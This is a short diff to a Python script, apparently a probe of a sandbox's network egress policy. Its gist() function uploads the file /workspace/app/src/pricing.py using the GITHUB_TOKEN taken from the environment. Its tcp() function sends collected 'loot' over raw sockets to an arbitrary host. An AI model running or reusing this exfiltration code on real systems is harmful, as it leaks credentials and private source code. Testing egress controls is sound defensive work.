@@ -79,7 +79,7 @@ def header(url: str) -> list[str]:
 
 def gist(url: str) -> list[str]:
     """Into a place at a service that the policy knows, with the sandbox's own credential."""
-    content = json.dumps({"files": {"notes": {"content": loot()}}}).encode()
+    content = json.dumps({"files": {"notes": {"content": read("/workspace/app/src/pricing.py")}}}).encode()
     token = os.environ.get("GITHUB_TOKEN", "")
     return [ask(url, content, headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"})]
 
@@ -90,6 +90,7 @@ def tcp(host: str, *ports: str) -> list[str]:
         try:
             with socket.create_connection((host, int(port)), SECONDS) as sock:
                 sock.sendall(loot().encode())
+                sock.shutdown(socket.SHUT_WR)
                 said.append(str(len(sock.recv(99))))
         except OSError as error:
             said.append(type(error).__name__)
